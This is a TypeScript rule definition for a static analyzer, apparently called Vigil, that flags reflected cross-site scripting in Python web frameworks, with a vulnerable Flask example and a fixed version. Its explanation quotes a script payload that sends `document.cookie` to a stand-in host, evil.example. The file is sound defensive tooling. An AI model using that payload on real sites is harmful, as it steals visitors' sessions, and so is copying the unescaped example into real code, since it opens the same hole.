import { defineFlowRule, sourceKind } from '../flowRule';

export default defineFlowRule({
  concept: 'html',
  message: (hit, source) =>
    `${hit.label}, with ${sourceKind(hit)} (${source}) in it unescaped: a value with \`<script>\` runs in the visitor's browser; render a template (which escapes) or escape the value (\`markupsafe.escape\`, \`html.escape\`)`,
  meta: {
    id: 'VG107',
    name: 'reflected-xss',
    title: 'HTML response built from request data',
    cwe: [79],
    severity: 'high',
    confidence: 'high',
    status: 'preview',
    since: '0.2.0',
    bandit: ['B703', 'B704'],
    ruff: ['S308', 'S704'],
    fixable: false,
    docs: {
      whatItDoes:
        'Flags request data that reaches an HTML response without escaping: a string a Flask view returns, `make_response`/`Response`, Django `HttpResponse`, `mark_safe`, `format_html` used with data as its template, `Markup`, Starlette `HTMLResponse`, aiohttp `web.Response(content_type="text/html")`, Tornado `self.write`, `http.server` handlers writing to `wfile`, the items a plain WSGI app returns or yields and the `"body"` of an AWS Lambda proxy response, when the app declares `Content-Type: text/html`.',
      whyIsThisBad:
        "The browser cannot tell the page's markup from the data pasted into it: a value such as `<script>fetch('//evil.example/?c='+document.cookie)</script>` runs as the page's own script, with the visitor's session (cross-site scripting). A crafted link is enough to attack anyone who opens it.",
      example: [
        'from flask import Flask, request',
        '',
        'app = Flask(__name__)',
        '',
        '',
        '@app.route("/hello")',
        'def hello():',
        '    return "<h1>Hello " + request.args.get("name", "") + "</h1>"',
      ].join('\n'),
      useInstead: [
        'from flask import Flask, render_template_string, request',
        'from markupsafe import escape',
        '',
        'app = Flask(__name__)',
        '',
        '',
        '@app.route("/hello")',
        'def hello():',
        '    return "<h1>Hello " + escape(request.args.get("name", "")) + "</h1>"',
        '',
        '',
        '@app.route("/hello2")',
        'def hello2():',
        '    # Or let a template escape it: the template is constant, the value is data.',
        '    return render_template_string("<h1>Hello {{ name }}</h1>", name=request.args.get("name", ""))',
      ].join('\n'),
      references: [
        'https://cwe.mitre.org/data/definitions/79.html',
        'https://owasp.org/www-community/attacks/xss/',
        'https://flask.palletsprojects.com/en/stable/security/#cross-site-scripting-xss',
        'https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.html.format_html',
      ],
      knownProblems:
        'A response Vigil cannot see is HTML (a `Response` with a JSON or text content type set later, a view whose return value a decorator turns into JSON) may be flagged; `jsonify`, `JsonResponse`, dictionaries and lists returned from Flask views are not. A WSGI app counts as HTML when its own code names `text/html`, or the module-level code does (a header list in a constant) and the app names no other content type (a helper function elsewhere that sets the header is not seen); a Lambda function only when its own text names `text/html` (API Gateway sends a proxy response without a `Content-Type` as JSON). Escaping functions Vigil knows: `markupsafe.escape`, `html.escape`, Django `escape`/`conditional_escape`, `bleach.clean`, `urllib.parse.quote`.',
    },
  },
});
